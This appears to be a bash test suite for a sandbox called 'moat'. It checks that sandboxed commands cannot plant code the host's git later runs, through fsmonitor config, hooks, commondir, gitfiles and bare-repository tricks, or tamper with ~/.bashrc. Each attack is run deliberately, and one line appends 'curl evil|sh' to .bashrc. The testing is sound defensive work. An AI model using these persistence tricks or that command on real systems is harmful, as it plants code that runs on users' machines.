#!/usr/bin/env bash
# Code the host runs later, planted through a write grant (docs/filesystem.md
# §6, "protected"): the files git takes config and hooks from besides
# .git/config and .git/hooks, what a pinned .git/config names, and HOME's
# protected entries under a grant that is not HOME itself.
#
# Each attack runs under moat, where it must fail (or, for the one absent
# file nothing can stand in for, .git/commondir, be undone after the run and
# reported: fs.write missing), and as a control with the entry lifted
# (--unprotect), where the same write lands.  The host side is checked from
# outside, with the host's git.  And git keeps working inside: status, add,
# commit, in a repository with a submodule.
#
#   1. .git/commondir (absent: watched, removed after the run)
#   2. a submodule: .git/modules/NAME/config, and its gitfile NAME/.git
#   3. a linked work tree: .git/worktrees/ID (its config.worktree)
#   4. .git/config.worktree with extensions.worktreeConfig (absent: an
#      empty read-only file for the run)
#   5. what .git/config names: core.hooksPath, include.path (present and
#      absent targets)
#   6. HOME's entries: --write ~/.config, --write ~/.local, --write the
#      parent of HOME
#   7. git inside still works
#   8. a folder of projects (--write ~/src): the repositories one level
#      below the grant's root, and a linked work tree's gitfile there
#   9. a broken .git, and the work tree made a bare repository instead
#      (git's fallback), below the grant and at its root
#  10. a git directory elsewhere in the grant (--separate-git-dir)
#  11. project folders that are links (out of the grant; into it)
#  12. a hook that is a link into the work tree (in .git/hooks, and in
#      core.hooksPath's directory)
#  13. a bare repository below the grant (its hooks run on a push to it)
#  14. (uid other than 0) a grant root or project this uid cannot look in
#  15. a linked work tree one level below whose repository lies deeper
#  16. the grant's root a linked work tree, with a relative core.hooksPath
#  17. .git/hooks itself a link, to a directory of links
#  18. a submodule not checked out (git works; its empty directory held)
#  19. a push redirected to a repository made beside one (watched names)
#  20. a protected file with another hard link (fs.write missing)
#  21. git's admin directories held entry by entry: git works in linked
#      work trees and submodules inside
#  22. submodules anywhere in them (dot-named, deep, a work tree's), and a
#      submodule's relative core.hooksPath
#  23. programs the config names in the work tree (core.fsmonitor, a '!'
#      alias's script); a FIFO at a watched name
#
# Runs as root and as uid 65534; the fake HOME is under /var/tmp (the
# sandbox's /tmp is private).
set -u
. "$(dirname "$0")/../lib/tap.sh"
scratch
unset MOAT_HOST_LIMIT MOAT_OCI_RUNTIME
command -v git >/dev/null || skip_all "no git here"
BASE=$(mktemp -d /var/tmp/moat-git.XXXXXX)
chmod 0777 "$BASE"
trap 'rm -rf "$SCRATCH" "$REPORTS" "$BASE"' EXIT
HOMES=$BASE/homes
HOMED=$HOMES/u
mkdir -p "$HOMED"
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@t \
	GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@t
PWNED=$BASE/pwned

# M DIR REPORT ARGS... : moat run in DIR, the fake HOME, a report.
M() {
	local dir=$1 rep=$2
	shift 2
	(cd "$dir" && env HOME="$HOMED" "$MOAT" run --backend native --mode prefer --profile strict \
		--report-fd 3 "$@" 2>>"$SCRATCH/all.err" 3>"$rep")
}
fsw() { json_get "$1" '["properties"]["fs.write"]["status"]' 2>/dev/null; }
# host_git DIR: the user's `git status` on the host; prints what it ran.
host_git() {
	rm -f "$PWNED"
	(cd "$1" && git status >/dev/null 2>&1 && git commit -q --allow-empty -m x >/dev/null 2>&1)
	cat "$PWNED" 2>/dev/null
}
FSMON="[core]\n\tfsmonitor = \"echo ran >$PWNED; false\"\n"
new_repo() { # new_repo DIR
	rm -rf "$1"
	git init -q "$1" && git -C "$1" commit -q --allow-empty -m i
}

# --- 1. .git/commondir ------------------------------------------------------
R=$BASE/p1
PLANT_COMMONDIR="mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/ && printf '$FSMON' > evil/config && echo ../evil > .git/commondir"
new_repo "$R"
M "$R" "$REPORTS/1.json" --write . -- /bin/sh -c "$PLANT_COMMONDIR"
is "$( [ -e "$R/.git/commondir" ] && echo there)/$(fsw "$REPORTS/1.json")/$(host_git "$R")" "/missing/" \
	"1: a .git/commondir the command made is removed after the run, fs.write reported missing, the host's git runs nothing"
like "$(cat "$SCRATCH/all.err")" "commondir was made during the run.*moved aside to commondir\.moat-set-aside-" \
	"1: and moat says so, with the name it kept it under"
# Kept, not deleted (it may be the user's own), where git does not look,
# without execute or group/other bits.
aside1() { find "$R/.git" -maxdepth 1 -name 'commondir.moat-set-aside-*' -printf '%m %s\n'; }
is "$(aside1)" "600 8" "1: what the command made is kept beside it, mode 0600, its content whole"
is "$(json_eval "$REPORTS/1.json" '[(e["path"], e["what"], e["state"], e["kept_as"]) for e in d["run"]["left_on_host"]]')" \
	"[[\"$R/.git/commondir\", \"watched\", \"moved_aside\", \"$(cd "$R/.git" && echo commondir.moat-set-aside-*)\"]]" \
	"1: and the report says where (run.left_on_host)"
valid_report "$REPORTS/1.json" "1: the report"
# A hard link the command makes at the watched name to another file keeps
# that file's mode: moat's clean-up changed it (the user's build.sh went
# from 0755 to 0600; review of stop 49).
new_repo "$R"
printf '#!/bin/sh\n' >"$R/build.sh" && chmod 0755 "$R/build.sh"
# (Without namespaces: with them .git is a mount of its own, and ln
# fails with EXDEV.)
(export MOAT_HOST_LIMIT=userns=0,root=0 && M "$R" "$REPORTS/1h.json" --write . -- /bin/sh -c 'ln build.sh .git/commondir') \
	>/dev/null 2>&1
is "$(stat -c '%a %h' "$R/build.sh")/$( [ -e "$R/.git/commondir" ] && echo there)/$(fsw "$REPORTS/1h.json")" "755 2//missing" \
	"1: a hard link made at .git/commondir is moved aside, and the file it shares keeps its mode"
rm -f "$R/build.sh"
new_repo "$R"
M "$R" /dev/null --dry-run --write . -- /bin/true >"$REPORTS/1d.json"
like "$(json_eval "$REPORTS/1d.json" '[e["state"] for e in d["filesystem"]["protected"] if e["path"].endswith("/.git/commondir")]')" \
	'watched' "1: the report lists an absent .git/commondir as watched"
# Then the directory on the way made unsearchable (its pin does not forbid
# a chmod): root still looks in, and removes it; another uid cannot, and
# the report says so, not that the host replaced something.
new_repo "$R"
M "$R" "$REPORTS/1m.json" --write . -- /bin/sh -c "$PLANT_COMMONDIR && chmod 000 .git"
why=$(json_get "$REPORTS/1m.json" '["properties"]["fs.write"]["reason"]' 2>/dev/null)
chmod 755 "$R/.git"
if [ "$(id -u)" = 0 ]; then
	is "$( [ -e "$R/.git/commondir" ] && echo there)/$(fsw "$REPORTS/1m.json")" "/missing" \
		"1: with .git made unsearchable, root still finds the commondir made, removes it, and reports fs.write missing"
else
	like "$(fsw "$REPORTS/1m.json"): $why" "^missing: moat could not look up $R/\.git/.* again after the run \(Permission denied\)" \
		"1: with .git made unsearchable, fs.write is missing: moat could not look again (not: the host replaced it)"
fi
new_repo "$R"
M "$R" "$REPORTS/1c.json" --write . --unprotect .git/commondir -- /bin/sh -c "$PLANT_COMMONDIR"
is "$(host_git "$R")" ran "1 control: lifted, the planted commondir makes the host's git run the command's fsmonitor"

# --- 2. a submodule ---------------------------------------------------------
new_repo "$BASE/lib"
R=$BASE/p2
new_repo "$R"
git -C "$R" -c protocol.file.allow=always submodule -q add "$BASE/lib" lib && git -C "$R" commit -q -m sub
before=$(sha256sum "$R/.git/modules/lib/config" "$R/lib/.git")
M "$R" "$REPORTS/2.json" --write . -- /bin/sh -c \
	"printf '$FSMON' >> .git/modules/lib/config; cp -r .git/modules/lib evil2; printf '$FSMON' >> evil2/config; echo 'gitdir: ../evil2' > lib/.git" \
	>/dev/null 2>&1
is "$(sha256sum "$R/.git/modules/lib/config" "$R/lib/.git")/$(fsw "$REPORTS/2.json")/$(host_git "$R")" "$before/enforced/" \
	"2: a submodule's .git/modules/lib/config and its gitfile lib/.git stay read-only"
M "$R" "$REPORTS/2c.json" --write . --unprotect .git/modules -- /bin/sh -c \
	"printf '$FSMON' >> .git/modules/lib/config"
is "$(host_git "$R")" ran "2 control: lifted, the submodule's config makes the host's git run the command's fsmonitor"

# --- 3. a linked work tree --------------------------------------------------
R=$BASE/p3
new_repo "$R"
git -C "$R" worktree add -q "$BASE/p3-wt" 2>/dev/null
git -C "$R" config extensions.worktreeConfig true
id=$(basename "$(git -C "$BASE/p3-wt" rev-parse --git-dir)")
M "$R" "$REPORTS/3.json" --write . -- /bin/sh -c "printf '$FSMON' > .git/worktrees/$id/config.worktree" >/dev/null 2>&1
is "$( [ -e "$R/.git/worktrees/$id/config.worktree" ] && echo there)/$(host_git "$BASE/p3-wt")" "/" \
	"3: .git/worktrees/ID stays read-only: no config.worktree for the linked work tree"
M "$R" "$REPORTS/3c.json" --write . --unprotect .git/worktrees -- /bin/sh -c \
	"printf '$FSMON' > .git/worktrees/$id/config.worktree"
is "$(host_git "$BASE/p3-wt")" ran "3 control: lifted, the linked work tree's git runs the command's fsmonitor"

# --- 4. .git/config.worktree --------------------------------------------------
R=$BASE/p4
new_repo "$R"
git -C "$R" config extensions.worktreeConfig true
out=$(M "$R" "$REPORTS/4.json" --write . -- /bin/sh -c \
	"printf '$FSMON' > .git/config.worktree; git status --porcelain >/dev/null && echo git-ok" 2>&1)
is "$out/$( [ -e "$R/.git/config.worktree" ] && echo there)/$(fsw "$REPORTS/4.json")/$(host_git "$R")" "git-ok//enforced/" \
	"4: with extensions.worktreeConfig, an absent .git/config.worktree cannot be made (git inside works; nothing left)"
M "$R" "$REPORTS/4c.json" --write . --unprotect .git/config.worktree -- /bin/sh -c \
	"printf '$FSMON' > .git/config.worktree"
is "$(host_git "$R")" ran "4 control: lifted, .git/config.worktree makes the host's git run the command's fsmonitor"

# --- 5. what .git/config names ----------------------------------------------
R=$BASE/p5
new_repo "$R"
mkdir "$R/.githooks"
git -C "$R" config core.hooksPath .githooks
git -C "$R" config include.path ../.gitconfig
git -C "$R" config --add include.path ../conf/absent.inc
HOOK="printf '#!/bin/sh\necho ran > $PWNED\n' > .githooks/pre-commit; chmod +x .githooks/pre-commit"
M "$R" "$REPORTS/5.json" --write . -- /bin/sh -c \
	"$HOOK; printf '$FSMON' > .gitconfig; mkdir -p conf; printf '$FSMON' > conf/absent.inc" >/dev/null 2>&1
is "$(ls -A "$R" | tr '\n' ' ')/$(fsw "$REPORTS/5.json")/$(host_git "$R")" ".git .githooks /enforced/" \
	"5: core.hooksPath's directory and include.path's files (present or not) stay read-only, and nothing is left"
M "$R" "$REPORTS/5c.json" --write . --unprotect .githooks -- /bin/sh -c "$HOOK"
is "$(host_git "$R")" ran "5 control: lifted, the hook in core.hooksPath runs on the host's git commit"
rm -f "$R/.githooks/pre-commit"
M "$R" "$REPORTS/5i.json" --write . --unprotect .gitconfig -- /bin/sh -c "printf '$FSMON' > .gitconfig"
is "$(host_git "$R")" ran "5 control: lifted, the included .gitconfig makes the host's git run the command's fsmonitor"

# --- 6. HOME's entries under a grant that is not HOME -----------------------
mkdir -p "$HOMED/.config/moat" "$HOMED/.config/git" "$HOMED/.local/bin" "$HOMED/.config/app"
echo '[servers]' >"$HOMED/.config/moat/servers.toml"
echo '[user]' >"$HOMED/.config/git/config"
echo 'export A=1' >"$HOMED/.bashrc"
snap() { sha256sum "$HOMED/.config/moat/servers.toml" "$HOMED/.config/git/config" "$HOMED/.bashrc"; ls -A "$HOMED/.local/bin" "$HOMED/.config"; }
before=$(snap)
M "$HOMED/.config" "$REPORTS/6a.json" --write "$HOMED/.config" -- /bin/sh -c \
	'echo "[evil]" >> ~/.config/moat/servers.toml; echo "[core]" >> ~/.config/git/config; mkdir ~/.config/autostart; echo ok > ~/.config/app/x' \
	>/dev/null 2>&1
M "$HOMED/.local" "$REPORTS/6b.json" --write "$HOMED/.local" -- /bin/sh -c 'echo x > ~/.local/bin/git' >/dev/null 2>&1
M "$HOMES" "$REPORTS/6c.json" --write "$HOMES" -- /bin/sh -c 'echo "curl evil|sh" >> ~/.bashrc' >/dev/null 2>&1
rm -f "$HOMED/.config/app/x.seen"
is "$(snap)/$(cat "$HOMED/.config/app/x" 2>/dev/null)" "$before/ok" \
	"6: --write ~/.config, ~/.local, the parent of HOME: moat's policy file, git's config, autostart, ~/.local/bin and ~/.bashrc stay read-only (the rest of the grant is written)"
is "$(fsw "$REPORTS/6a.json")/$(fsw "$REPORTS/6b.json")/$(fsw "$REPORTS/6c.json")" enforced/enforced/enforced \
	"6: and fs.write is enforced in each"
M "$HOMED/.config" "$REPORTS/6ac.json" --write "$HOMED/.config" --unprotect "$HOMED/.config/moat" -- /bin/sh -c \
	'echo "[evil]" >> ~/.config/moat/servers.toml'
like "$(cat "$HOMED/.config/moat/servers.toml")" evil "6 control: lifted, ~/.config/moat/servers.toml is written"
M "$HOMES" "$REPORTS/6cc.json" --write "$HOMES" --unprotect "$HOMED/.bashrc" -- /bin/sh -c 'echo "curl evil|sh" >> ~/.bashrc'
like "$(cat "$HOMED/.bashrc")" evil "6 control: lifted, ~/.bashrc under a grant of HOME's parent is written"

# --- 7. git inside still works ----------------------------------------------
R=$BASE/p2
rm -rf "$R/evil2"
out=$(M "$R" "$REPORTS/7.json" --write . -- /bin/sh -c \
	'echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t commit -q -m a && git status --porcelain && git -C lib status --porcelain && echo git-ok' 2>&1)
is "$out/$(git -C "$R" log -1 --format=%s)" "git-ok/a" "7: status, add, commit (and status in the submodule) work inside"

# --- 8. a folder of projects --------------------------------------------------
S=$BASE/src
mkdir -p "$S"
new_repo "$S/a"
git -C "$S/a" worktree add -q "$S/w" 2>/dev/null
mkdir -p "$S/plain"
PLANT8="printf '#!/bin/sh\necho ran > $PWNED\n' > a/.git/hooks/pre-commit; chmod +x a/.git/hooks/pre-commit;
	printf '$FSMON' >> a/.git/config; cp -r a/.git evil8; printf '$FSMON' >> evil8/config;
	echo \"gitdir: $S/evil8\" > w/.git; echo ok > a/x.txt; echo ok > plain/y.txt"
M "$S" "$REPORTS/8.json" --write . -- /bin/sh -c "$PLANT8" >/dev/null 2>&1
is "$(host_git "$S/a")/$(host_git "$S/w")/$(cat "$S/a/x.txt" "$S/plain/y.txt" 2>/dev/null | tr '\n' ' ')/$(fsw "$REPORTS/8.json")" \
	"//ok ok /enforced" \
	"8: --write of a folder of projects: a repository below it keeps its hooks and config, a linked work tree its gitfile (the rest is written)"
like "$(json_eval "$REPORTS/8.json" '" ".join(sorted(e["path"] for e in d["filesystem"]["protected"] if e["state"] == "read-only"))' 2>&1 | sed "s|$S/||g")" \
	"a/\.git/config a/\.git/hooks.* w/\.git" "8: the report lists them read-only"
rm -rf "$S/evil8"
M "$S" "$REPORTS/8c.json" --write . --unprotect a/.git/config -- /bin/sh -c "printf '$FSMON' >> a/.git/config" \
	>/dev/null 2>&1
is "$(host_git "$S/a")" ran "8 control: lifted, the repository's config makes the host's git run the command's fsmonitor"
echo "gitdir: $(git -C "$S/a" rev-parse --absolute-git-dir)/worktrees/w" >"$S/w/.git"
# (deeper than one level: a repository there is not looked for)
cp -r "$S/a/.git" "$S/plain/evil8" && git -C "$S/plain/evil8" config --unset core.fsmonitor
M "$S" "$REPORTS/8w.json" --write . --unprotect w/.git -- /bin/sh -c \
	"printf '$FSMON' >> plain/evil8/config; echo \"gitdir: $S/plain/evil8\" > w/.git" >/dev/null 2>&1
is "$(host_git "$S/w")" ran "8 control: lifted, the rewritten gitfile makes the host's git run the command's fsmonitor"

# --- 9. a broken .git, and the work tree made a bare repository ------------------
# git takes the directory itself for a bare repository when its .git is
# not one (.git/refs moved away), and reads its `config`: core.pager runs
# at a terminal's `git log`.
S=$BASE/s9
rm -rf "$S" && mkdir -p "$S"
new_repo "$S/proj"
# ttygit DIR: `git log` at a terminal there (script(1) gives it one; git
# starts no pager for an unset or dumb TERM; script runs $SHELL, and the
# login shell of uid 65534 is nologin).
ttygit() {
	rm -f "$PWNED"
	(cd "$1" && SHELL=/bin/sh TERM=xterm script -qec 'git log -1' /dev/null </dev/null >/dev/null 2>&1)
	cat "$PWNED" 2>/dev/null
}
BARE9="cp -r .git/objects .git/refs .git/HEAD . ; mv .git/refs .git/refs.x; printf '[core]\n\tpager = \"echo ran >$PWNED; cat\"\n[pager]\n\tlog = true\n' > config"
if command -v script >/dev/null; then
	M "$S" "$REPORTS/9.json" --write . -- /bin/sh -c "cd proj && $BARE9" >/dev/null 2>&1
	is "$(ttygit "$S/proj")/$(fsw "$REPORTS/9.json")/$(ls -d "$S/proj/HEAD" 2>/dev/null)" "/missing/" \
		"9: a project below the grant is not left a bare repository: the HEAD the command made there is removed after the run, and fs.write reported missing"
	new_repo "$S/proj"
	M "$S/proj" "$REPORTS/9r.json" --write . -- /bin/sh -c "$BARE9" >/dev/null 2>&1
	is "$(ttygit "$S/proj")/$(fsw "$REPORTS/9r.json")" "/missing" "9: nor the grant's own root"
	# git climbs from a broken repository to the grant's root, itself no
	# repository: that one is kept from being a bare one too.
	new_repo "$S/proj"
	M "$S" "$REPORTS/9u.json" --write . -- /bin/sh -c \
		"cp -r proj/.git/objects proj/.git/refs proj/.git/HEAD . ; mv proj/.git/refs proj/.git/refs.x; printf '[core]\n\tbare = true\n\tpager = \"echo ran >$PWNED; cat\"\n' > config" \
		>/dev/null 2>&1
	is "$(ttygit "$S/proj")/$(fsw "$REPORTS/9u.json")" "/missing" \
		"9: nor the grant's root above a repository, where git climbs to from a broken one"
	rm -rf "$S/objects" "$S/HEAD" "$S/config"
	new_repo "$S/proj"
	M "$S" "$REPORTS/9c.json" --write . --unprotect proj/HEAD -- /bin/sh -c "cd proj && $BARE9" >/dev/null 2>&1
	is "$(ttygit "$S/proj")" ran "9 control: lifted, the host's git log at a terminal runs the bare repository's pager"
else
	skip "9: script(1) (util-linux) is not installed: no terminal for git's pager"
	skip "9: script(1) (util-linux) is not installed"
	skip "9: script(1) (util-linux) is not installed"
	skip "9: script(1) (util-linux) is not installed"
fi
new_repo "$S/proj"
out=$(M "$S" "$REPORTS/9d.json" --write . -- /bin/sh -c \
	'cd proj && git diff HEAD && git show HEAD >/dev/null && git log -1 HEAD >/dev/null && git reset -q HEAD && git status --porcelain && echo git-ok' 2>&1)
is "$out/$(ls "$S/proj")" git-ok/ "9: git diff HEAD, show, log, reset HEAD and status work inside, as before, and the work tree holds nothing of moat's"

# --- 10. a git directory elsewhere in the grant -------------------------------
S=$BASE/s10
rm -rf "$S" && mkdir -p "$S/.gitdirs"
git init -q --separate-git-dir "$S/.gitdirs/p" "$S/p" && git -C "$S/p" commit -q --allow-empty -m i
M "$S" "$REPORTS/10.json" --write . -- /bin/sh -c "printf '$FSMON' >> .gitdirs/p/config" >/dev/null 2>&1
is "$(host_git "$S/p")/$(fsw "$REPORTS/10.json")" "/enforced" \
	"10: the git directory a project's gitfile names, elsewhere in the grant: its config stays read-only"
M "$S" "$REPORTS/10c.json" --write . --unprotect .gitdirs/p/config -- /bin/sh -c "printf '$FSMON' >> .gitdirs/p/config" \
	>/dev/null 2>&1
is "$(host_git "$S/p")" ran "10 control: lifted, its config makes the host's git run the command's fsmonitor"

# --- 11. project folders that are links -----------------------------------------
S=$BASE/s11
rm -rf "$S" "$BASE/elsewhere" && mkdir -p "$S/x/y" "$BASE/elsewhere"
chmod 0777 "$BASE/elsewhere"
new_repo "$BASE/elsewhere/proj"
ln -s "$BASE/elsewhere/proj" "$S/lp"
new_repo "$S/x/y/deep"
ln -s x/y/deep "$S/dl"
PLANT11="rm lp && mkdir lp && git init -q lp && printf '$FSMON' >> lp/.git/config; printf '$FSMON' >> x/y/deep/.git/config"
M "$S" "$REPORTS/11.json" --write . -- /bin/sh -c "$PLANT11" >/dev/null 2>&1
is "$( [ -L "$S/lp" ] && echo link)/$(host_git "$S/lp")/$(host_git "$S/dl")/$(fsw "$REPORTS/11.json")" "link///enforced" \
	"11: a project folder that links out of the grant cannot be replaced; one that links into it has its repository protected"
M "$S" "$REPORTS/11c.json" --write . --unprotect lp --unprotect x/y/deep/.git/config -- /bin/sh -c "$PLANT11" >/dev/null 2>&1
is "$( [ -L "$S/lp" ] && echo link)/$(host_git "$S/lp")/$(host_git "$S/dl")" "/ran/ran" \
	"11 control: lifted, the link is replaced by a repository of the command's, and the deep one's config is written"

# --- 12. a hook that is a link into the work tree ---------------------------------
R=$BASE/p12
new_repo "$R"
mkdir "$R/tools" && printf '#!/bin/sh\nexit 0\n' >"$R/tools/pre-commit" && chmod +x "$R/tools/pre-commit"
ln -s ../../tools/pre-commit "$R/.git/hooks/pre-commit"
HOOK12="printf '#!/bin/sh\necho ran > $PWNED\n' > tools/pre-commit"
M "$R" "$REPORTS/12.json" --write . -- /bin/sh -c "$HOOK12" >/dev/null 2>&1
is "$(host_git "$R")/$(fsw "$REPORTS/12.json")" "/enforced" "12: the file a hook links to in the work tree stays read-only"
M "$R" "$REPORTS/12c.json" --write . --unprotect tools/pre-commit -- /bin/sh -c "$HOOK12" >/dev/null 2>&1
is "$(host_git "$R")" ran "12 control: lifted, the host's git commit runs what the command wrote there"
# The same through core.hooksPath, a directory of any name.
R=$BASE/p12h
new_repo "$R"
mkdir -p "$R/ci/git" "$R/scripts" && printf '#!/bin/sh
exit 0
' >"$R/scripts/pc" && chmod +x "$R/scripts/pc"
ln -s ../../scripts/pc "$R/ci/git/pre-commit"
git -C "$R" config core.hooksPath ci/git
HOOK12H="printf '#!/bin/sh\necho ran > $PWNED\n' > scripts/pc"
M "$R" "$REPORTS/12h.json" --write . -- /bin/sh -c "$HOOK12H" >/dev/null 2>&1
is "$(host_git "$R")/$(fsw "$REPORTS/12h.json")" "/enforced" "12: so does the file a link in core.hooksPath's directory leads to"
M "$R" "$REPORTS/12hc.json" --write . --unprotect scripts/pc -- /bin/sh -c "$HOOK12H" >/dev/null 2>&1
is "$(host_git "$R")" ran "12 control: lifted, the host's git commit runs it"

# --- 13. a bare repository below the grant ----------------------------------------
S=$BASE/s13
rm -rf "$S" && mkdir -p "$S"
git init -q --bare "$S/b.git"
new_repo "$BASE/p13"
HOOK13="printf '#!/bin/sh\necho ran > $PWNED\n' > b.git/hooks/post-receive; chmod +x b.git/hooks/post-receive"
push13() { rm -f "$PWNED"; git -C "$BASE/p13" push -q "$S/b.git" HEAD:refs/heads/t$1 >/dev/null 2>&1; cat "$PWNED" 2>/dev/null; }
M "$S" "$REPORTS/13.json" --write . -- /bin/sh -c "$HOOK13" >/dev/null 2>&1
is "$(push13 1)/$(fsw "$REPORTS/13.json")" "/enforced" "13: a bare repository's hooks stay read-only (a push to it runs them)"
M "$S" "$REPORTS/13c.json" --write . --unprotect b.git/hooks -- /bin/sh -c "$HOOK13" >/dev/null 2>&1
is "$(push13 2)" ran "13 control: lifted, the host's push runs the command's post-receive hook"

# Its own .git: git tries PATH/.git before PATH, for a push to it too.
rm -f "$S/b.git/hooks/post-receive" # the control's
PLANT13G="mkdir -p b.git/.git/objects b.git/.git/refs b.git/.git/hooks && echo 'ref: refs/heads/master' > b.git/.git/HEAD &&
	printf '#!/bin/sh\necho ran > $PWNED\n' > b.git/.git/hooks/pre-receive && chmod +x b.git/.git/hooks/pre-receive &&
	printf '[core]\n\tbare = true\n' > b.git/.git/config"
M "$S" "$REPORTS/13g.json" --write . -- /bin/sh -c "$PLANT13G" >/dev/null 2>&1
is "$(push13 4)/$(fsw "$REPORTS/13g.json")/$(ls -A "$S/b.git" | grep -c '^\.git$')" "/enforced/0" \
	"13: nor can the command give a bare repository a .git of its own (an empty placeholder for the run, gone after it)"
M "$S" "$REPORTS/13gc.json" --write . --unprotect b.git/.git -- /bin/sh -c "$PLANT13G" >/dev/null 2>&1
is "$(push13 5)" ran "13 control: lifted, a push to it runs the hook of the .git the command made"
rm -rf "$S/b.git/.git"
# A bare repository's commondir (git takes hooks from where it points):
# watched, removed after the run, and reported.
rm -f "$S/b.git/hooks/post-receive" # the control's
mkdir -p "$S/evil/hooks" && cp -r "$S/b.git/objects" "$S/b.git/refs" "$S/b.git/HEAD" "$S/evil/"
printf '[core]\n\tbare = true\n' >"$S/evil/config"
printf '#!/bin/sh\necho ran > %s\n' "$PWNED" >"$S/evil/hooks/post-receive" && chmod +x "$S/evil/hooks/post-receive"
M "$S" "$REPORTS/13m.json" --write . -- /bin/sh -c 'echo ../evil > b.git/commondir' >/dev/null 2>&1
is "$(push13 3)/$(fsw "$REPORTS/13m.json")" "/missing" \
	"13: a commondir the command gave a bare repository is removed after the run, and fs.write reported missing"

# --- 15. a linked work tree one level below, its repository deeper ---------------
S=$BASE/s15
rm -rf "$S" && mkdir -p "$S/repos"
new_repo "$S/repos/main"
git -C "$S/repos/main" worktree add -q "$S/feat" 2>/dev/null
PLANT15="printf '$FSMON' >> repos/main/.git/config"
M "$S" "$REPORTS/15.json" --write . -- /bin/sh -c "$PLANT15" >/dev/null 2>&1
is "$(host_git "$S/feat")/$(fsw "$REPORTS/15.json")" "/enforced" \
	"15: a linked work tree's common directory (its main repository's .git, deeper in the grant) keeps its config"
M "$S" "$REPORTS/15c.json" --write . --unprotect repos/main/.git/config -- /bin/sh -c "$PLANT15" >/dev/null 2>&1
is "$(host_git "$S/feat")" ran "15 control: lifted, the host's git status in the work tree runs the command's fsmonitor"

# --- 16. the grant's root a linked work tree, with a relative core.hooksPath ------
R=$BASE/p16
new_repo "$R"
mkdir -p "$R/tools" && printf '#!/bin/sh\nexit 0\n' >"$R/tools/pre-commit" && chmod +x "$R/tools/pre-commit"
git -C "$R" add tools && git -C "$R" commit -q -m tools && git -C "$R" config core.hooksPath tools
git -C "$R" worktree add -q "$BASE/p16-wt" 2>/dev/null
HOOK16="printf '#!/bin/sh\necho ran > $PWNED\n' > tools/pre-commit"
M "$BASE/p16-wt" "$REPORTS/16.json" --write . -- /bin/sh -c "$HOOK16" >/dev/null 2>&1
is "$(host_git "$BASE/p16-wt")/$(fsw "$REPORTS/16.json")" "/enforced" \
	"16: --write of a linked work tree: core.hooksPath (relative, from its repository's config) is held in the work tree"
M "$BASE/p16-wt" "$REPORTS/16c.json" --write . --unprotect tools -- /bin/sh -c "$HOOK16" >/dev/null 2>&1
is "$(host_git "$BASE/p16-wt")" ran "16 control: lifted, the host's git commit there runs the command's hook"

# --- 17. .git/hooks itself a link, with links in it -------------------------------
R=$BASE/p17
new_repo "$R"
mkdir -p "$R/githooks" "$R/scripts" && printf '#!/bin/sh\nexit 0\n' >"$R/scripts/pc" && chmod +x "$R/scripts/pc"
ln -s ../scripts/pc "$R/githooks/pre-commit"
rm -rf "$R/.git/hooks" && ln -s ../githooks "$R/.git/hooks"
HOOK17="printf '#!/bin/sh\necho ran > $PWNED\n' > scripts/pc"
M "$R" "$REPORTS/17.json" --write . -- /bin/sh -c "$HOOK17" >/dev/null 2>&1
is "$(host_git "$R")/$(fsw "$REPORTS/17.json")" "/enforced" \
	"17: .git/hooks a link to a directory whose hooks are links: what they lead to stays read-only"
M "$R" "$REPORTS/17c.json" --write . --unprotect scripts/pc -- /bin/sh -c "$HOOK17" >/dev/null 2>&1
is "$(host_git "$R")" ran "17 control: lifted, the host's git commit runs it"

# --- 18. a submodule not checked out -----------------------------------------------
R=$BASE/p18
new_repo "$R"
git -C "$R" -c protocol.file.allow=always submodule -q add "$BASE/lib" lib && git -C "$R" commit -q -m sub
# --no-hardlinks: a local clone's .git/objects are links of the source's,
# which makes fs.write missing (link_farms.sh); this is about the submodule.
rm -rf "$BASE/p18-clone" && git clone -q --no-hardlinks "$R" "$BASE/p18-clone"
R=$BASE/p18-clone
out=$(M "$R" "$REPORTS/18.json" --write . -- /bin/sh -c \
	'git status --porcelain && echo a > a.txt && git add -A && git -c user.name=t -c user.email=t@t commit -q -m a && echo git-ok;
	 echo "gitdir: ../evil" > lib/.git 2>/dev/null || echo held' 2>&1)
is "$(echo $out)/$(ls -A "$R/lib")/$(fsw "$REPORTS/18.json")" "git-ok held//enforced" \
	"18: in a clone whose submodule is not checked out, git works inside, and its empty directory is held (no gitfile can be put there)"

# --- 19. a push redirected beside a repository --------------------------------------
# git takes the first of P/.git, P, P.git/.git, P.git that is a repository
# for a push to P: a command that breaks pub.git and makes
# pub.git.git beside it has the push go there.
S=$BASE/s19
rm -rf "$S" && mkdir -p "$S"
git init -q --bare "$S/pub.git"
git clone -q "$S/pub.git" "$S/proj" 2>/dev/null
git -C "$S/proj" commit -q --allow-empty -m i
HOOK19="printf '#!/bin/sh\necho ran > $PWNED\n' > \$1/hooks/pre-receive; chmod +x \$1/hooks/pre-receive"
push19() { rm -f "$PWNED"; git -C "$S/proj" push -q "$1" HEAD:refs/heads/t$2 >/dev/null 2>&1; cat "$PWNED" 2>/dev/null; }
M "$S" "$REPORTS/19.json" --write . -- /bin/sh -c \
	"cp pub.git/HEAD HEAD.keep; echo junk > pub.git/HEAD; git init -q --bare pub.git.git; set -- pub.git.git; $HOOK19" \
	>/dev/null 2>&1
like "$(fsw "$REPORTS/19.json"): $(json_get "$REPORTS/19.json" '["properties"]["fs.write"]["reason"]' 2>/dev/null)" \
	"^missing: $S/pub\.git\.git .*was made during the run" \
	"19: a bare repository broken and another made beside it (where a push to it would go): fs.write reported missing"
is "$(push19 ../pub.git 1)" ran "19 control: the push did go there"
cp "$S/HEAD.keep" "$S/pub.git/HEAD" && rm -rf "$S/pub.git.git" "$S/HEAD.keep"
M "$S" "$REPORTS/19b.json" --write . -- /bin/sh -c \
	"git clone -q --bare proj proj.git && git clone -q pub.git pub 2>/dev/null; ls -d proj.git pub" >/dev/null 2>&1
is "$(fsw "$REPORTS/19b.json")/$(ls -d "$S/proj.git" "$S/pub" 2>/dev/null | wc -l)" "enforced/2" \
	"19: a bare mirror made beside a sound repository, and a clone of a bare one, are ordinary work: fs.write enforced"
rm -rf "$S/proj.git" "$S/pub"
M "$S" "$REPORTS/19h.json" --write . -- /bin/sh -c \
	"printf 'ref: refs/heads/master\n' > pub.git/EDITMSG && ln -f pub.git/EDITMSG pub.git/HEAD && git init -q --bare pub.git.git" \
	>/dev/null 2>&1
